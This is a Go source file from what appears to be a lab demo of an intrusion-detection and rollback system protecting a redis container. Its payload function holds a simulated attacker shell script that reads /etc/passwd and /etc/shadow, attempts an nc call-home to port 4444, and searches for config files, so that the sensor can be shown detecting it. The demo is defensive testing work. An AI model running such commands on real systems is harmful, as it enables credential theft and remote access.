package main

import (
	"context"
	"fmt"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"sort"
	"strings"
	"time"

	"github.com/escape-mtd/escape/internal/mtls"
	"github.com/escape-mtd/escape/plane"
	"github.com/escape-mtd/escape/sensor/events"
	"github.com/escape-mtd/escape/tools/lab"
	"github.com/escape-mtd/escape/tools/probe"
)

// events are every host's sensor events (each agent writes its own
// /var/log/escape/events.jsonl), in time order.
func (d *demo) events() ([]events.Event, error) {
	var all []events.Event
	for _, h := range d.inv.Hosts {
		evs, err := readLines[events.Event](filepath.Join(h.LogDir, "events.jsonl"))
		if err != nil {
			return nil, err
		}
		all = append(all, evs...)
	}
	sort.SliceStable(all, func(i, j int) bool { return all[i].Time.Before(all[j].Time) })
	return all, nil
}

// audit is the plane's audit log, in the plane machine's /var/log/escape.
func (d *demo) audit() ([]plane.AuditEvent, error) {
	return readLines[plane.AuditEvent](filepath.Join(d.inv.Plane.LogDir, "audit.jsonl"))
}

func (d *demo) client() ([]probe.Event, error) {
	return readLines[probe.Event](filepath.Join(d.out, "client.jsonl"))
}

// operatorClient is the demo's operator: the lab's operator certificate,
// over mutual TLS, from the client namespace (the plane's API is on the
// fabric only).
func (d *demo) operatorClient() (*plane.Client, error) {
	src, err := mtls.NewSource(d.inv.PKI.Operator)
	if err != nil {
		return nil, fmt.Errorf("operator certificate: %w", err)
	}
	dial := lab.NetnsDialer(d.inv.Client.Netns)
	return plane.NewTLSClient(d.inv.Plane.API, src.ClientConfig(mtls.Identity{Role: mtls.RolePlane, Name: "plane"}),
		plane.WithDialer(func(ctx context.Context, _, address string) (net.Conn, error) { return dial(ctx, address) })), nil
}

func (d *demo) status(ctx context.Context) (plane.ContainerStatus, error) {
	cctx, cancel := context.WithTimeout(ctx, 10*time.Second)
	defer cancel()
	var st plane.Status
	if err := d.operator.Do(cctx, "GET", "/v1/status", nil, &st); err != nil {
		return plane.ContainerStatus{}, err
	}
	for _, c := range st.Containers {
		if c.ID == serviceID {
			return c, nil
		}
	}
	return plane.ContainerStatus{}, fmt.Errorf("the plane does not protect %s", serviceID)
}

func (d *demo) startPlane(ctx context.Context) error {
	cmd := lab.Command(context.Background(), d.inv, "plane", filepath.Join(d.bin, "escape-plane"), "serve", "--config", lab.InsideConfig)
	if err := d.backgroundCmd(cmd, "plane.log"); err != nil {
		return err
	}
	err := d.waitFor(ctx, "the plane to deploy redis", 90*time.Second, func() (bool, error) {
		c, err := d.status(ctx)
		return err == nil && c.State == "running", nil
	})
	if err != nil {
		return fmt.Errorf("%w (see %s/plane.log)", err, d.out)
	}
	c, _ := d.status(ctx)
	d.note("redis runs on %s at %s; policy: rollback up to %d times in %v, then migrate", c.Host, c.IP,
		c.Policy.RollbackLimit, c.Policy.RollbackWindow)
	d.note("plane: JSON logs %s/plane.log, audit %s/audit.jsonl, API https://%s (mTLS)", d.out, d.inv.Plane.LogDir, d.inv.Plane.API)
	return nil
}

// watchSensor waits for h1's sensor to watch redis.
func (d *demo) watchSensor(ctx context.Context) error {
	err := d.waitFor(ctx, "the sensor to watch redis", 60*time.Second, func() (bool, error) {
		evs, err := d.events()
		for _, e := range evs {
			if e.Type == events.TypeWatched && e.Container != nil && e.Container.Identity == serviceID {
				d.note("sensor event: watched %s (cgroup %d) on %s", e.Container.Identity, e.Container.CgroupID, e.Container.Host)
				return true, nil
			}
		}
		return false, err
	})
	if err != nil {
		return fmt.Errorf("%w (see each host's agent log in the lab)", err)
	}
	h1, _ := d.inv.Host("h1")
	d.note("sensor on h1: events %s/events.jsonl, agent log %s, live view: escape-lab exec h1 -- escape-sensor top", h1.LogDir, h1.AgentLog)
	return nil
}

func (d *demo) startClient(ctx context.Context) error {
	if err := d.background("escape-lab", "client.log", "probe", "--addr", serviceIP+":6379", "--interval", "50ms",
		"--out", filepath.Join(d.out, "client.jsonl")); err != nil {
		return err
	}
	err := d.waitFor(ctx, "the client to connect", 30*time.Second, func() (bool, error) {
		evs, err := d.client()
		return len(evs) > 0, err
	})
	if err != nil {
		return err
	}
	d.note("client (escape-lab probe): one TCP connection, INCR every 50 ms, each outage in %s/client.jsonl", d.out)
	bg, cancel := context.WithCancel(context.Background())
	d.stopBG = cancel
	go d.load(bg)
	return nil
}

// load is the service's normal traffic: redis-benchmark bursts from the
// client namespace, then a pause, for the whole demo.
func (d *demo) load(ctx context.Context) {
	for ctx.Err() == nil {
		c := exec.CommandContext(ctx, "ip", "netns", "exec", d.inv.Client.Netns, "redis-benchmark", "-h", serviceIP,
			"-q", "-n", "3000", "-c", "2", "-t", "set,get,incr,lpush")
		_ = c.Run() // a burst cut by a rollback or a migration is normal
		select {
		case <-ctx.Done():
		case <-time.After(time.Second):
		}
	}
}

func (d *demo) train(ctx context.Context) error {
	var learned events.Event
	// learn_max is the sensor's own ceiling; past it, with a margin for the
	// epoch that ends it, the sensor is broken, not slow.
	err := d.waitFor(ctx, "the sensor to learn redis's normal behaviour", d.learnMax+time.Minute, func() (bool, error) {
		evs, err := d.events()
		for _, e := range evs {
			if e.Epoch != nil && e.Container != nil && e.Container.Identity == serviceID && e.Epoch.Mode == "detecting" {
				learned = e
				return true, nil
			}
		}
		return false, err
	})
	if err != nil {
		return err
	}
	d.note("learned: %d distinct bags of system calls after %v; now detecting with %s", learned.Epoch.Database,
		learned.Time.Sub(d.start).Round(time.Second), judgement(learned.Epoch))
	return nil
}

// waitCheckpoint waits for the plane's first safe checkpoint taken while
// the sensor was detecting, and returns redis's host.
func (d *demo) waitCheckpoint(ctx context.Context) (string, error) {
	var c plane.ContainerStatus
	err := d.waitFor(ctx, "a safe checkpoint (clean epochs under detection)", 90*time.Second, func() (bool, error) {
		var err error
		c, err = d.status(ctx)
		return err == nil && c.LastCheckpoint != nil, nil
	})
	if err != nil {
		return "", err
	}
	ck := c.LastCheckpoint
	d.note("safe checkpoint %d of %s on %s, safe as of epoch %d, %d KiB, took %v", ck.Seq, serviceID, ck.Host,
		ck.SafeEpoch, ck.Bytes>>10, time.Duration(ck.Took).Round(time.Millisecond))
	return c.Host, nil
}

// payload is what an attacker with code execution in the container does:
// look around, read secrets, try to call home (h2), search the disk.
func payload(home string) string {
	return fmt.Sprintf(`for i in 1 2 3 4 5 6 7 8; do
id; uname -a; cat /etc/passwd /etc/shadow; ls -la / /root /proc/1/
nc -w 1 %s 4444 </dev/null
find / -xdev -name '*.conf' | head -n 20
sleep 1
done`, home)
}

// attackOnce runs the payload in the container and waits for the sensor's
// anomaly and the plane's decision.
func (d *demo) attackOnce(ctx context.Context, round int) (plane.AuditEvent, error) {
	c, err := d.status(ctx)
	if err != nil {
		return plane.AuditEvent{}, err
	}
	var home string
	for _, h := range d.inv.Hosts {
		if h.Name != c.Host && home == "" {
			home = h.IP.String()
		}
	}
	t0 := time.Now()
	log, err := os.Create(filepath.Join(d.out, fmt.Sprintf("attack-%d.log", round)))
	if err != nil {
		return plane.AuditEvent{}, err
	}
	defer log.Close()
	// The attacker's foothold, as an operator on the host would reach it:
	// ctr against the host's own containerd, inside the host.
	atk := lab.Command(ctx, d.inv, c.Host, ctrPath(), "-a", lab.InsideContainerd, "-n", d.inv.Namespace, "task", "exec",
		"--exec-id", fmt.Sprintf("attack-%d", round), serviceID, "/bin/sh", "-c", payload(home))
	atk.Stdout, atk.Stderr = log, log
	if err := atk.Start(); err != nil {
		return plane.AuditEvent{}, fmt.Errorf("attack: %w", err)
	}
	go func() { _ = atk.Wait() }() // the rollback or the migration ends it
	d.note("attack %d: shell in %s on %s (output: %s)", round, serviceID, c.Host, log.Name())

	var anomaly events.Event
	err = d.waitFor(ctx, "the sensor to detect it", 60*time.Second, func() (bool, error) {
		evs, err := d.events()
		for _, e := range evs {
			if e.Type == events.TypeAnomaly && e.Container != nil && e.Container.Identity == serviceID && e.Time.After(t0) {
				anomaly = e
				return true, nil
			}
		}
		return false, err
	})
	if err != nil {
		return plane.AuditEvent{}, err
	}
	d.note("detected after %v: JSON event for the SIEM:", anomaly.Time.Sub(t0).Round(time.Millisecond))
	d.summary = append(d.summary, fmt.Sprintf("attack %d on %s: detected %v after it started (epoch of %d calls, %s %.3g > threshold %.3g)",
		round, c.Host, anomaly.Time.Sub(t0).Round(time.Millisecond), anomaly.Epoch.Calls, anomaly.Epoch.Scorer, anomaly.Epoch.Value, anomaly.Epoch.Limit))
	fmt.Printf("      {\"type\":%q,\"severity\":%q,\"container\":%q,\"host\":%q,\"epoch\":{\"seq\":%d,\"scorer\":%q,\"value\":%.4g,\"limit\":%.4g,\"mismatches\":%d,\"new_bags\":%d}}\n",
		anomaly.Type, anomaly.Severity, anomaly.Container.Identity, anomaly.Container.Host, anomaly.Epoch.Seq,
		anomaly.Epoch.Scorer, anomaly.Epoch.Value, anomaly.Epoch.Limit, anomaly.Epoch.Mismatches, anomaly.Epoch.NewBags)
	d.note("evidence (system calls of the unseen windows, novel ones first): %s", evidence(anomaly.Epoch.Unseen))

	var dec plane.AuditEvent
	err = d.waitFor(ctx, "the plane's decision", 3*time.Minute, func() (bool, error) {
		evs, err := d.audit()
		for _, e := range evs {
			if e.Kind == "decision" && e.Container == serviceID && e.Time.After(t0) && e.Time.After(d.decisionSeen) && e.Decision != "none" {
				dec = e
				return true, nil
			}
		}
		return false, err
	})
	if err != nil {
		return plane.AuditEvent{}, err
	}
	d.decisionSeen, d.decisionStart = dec.Time, since(dec)
	d.note("plane decided %s (%s): %s", dec.Decision, dec.Outcome, strings.Join(dec.Reasons, "; "))
	if dec.Outcome != "ok" {
		return dec, fmt.Errorf("the %s failed: %s", dec.Decision, dec.Error)
	}
	return dec, nil
}

// judgement names an epoch's rule and threshold for a reader, e.g.
// "lm (threshold 2.31 nats, calibrated)".
func judgement(e *events.Epoch) string {
	unit := "mismatching windows"
	if e.Scorer == "lm" {
		unit = "nats"
	}
	how := "set by the operator"
	if e.Calibrated {
		how = "calibrated"
	}
	return fmt.Sprintf("%s (threshold %.3g %s, %s)", e.Scorer, e.Limit, unit, how)
}

func ctrPath() string {
	if p, err := exec.LookPath("ctr"); err == nil {
		return p
	}
	return "/opt/escape/bin/ctr"
}

// evidence renders an anomaly's unseen system calls for a reader, e.g.
// "execve (novel, 10 windows), read (41)".
func evidence(unseen []events.Syscall) string {
	if len(unseen) == 0 {
		return "none reported"
	}
	parts := make([]string, len(unseen))
	for i, u := range unseen {
		if u.Novel {
			parts[i] = fmt.Sprintf("%s (novel, %d windows)", u.Name, u.Windows)
		} else {
			parts[i] = fmt.Sprintf("%s (%d)", u.Name, u.Windows)
		}
	}
	return strings.Join(parts, ", ")
}
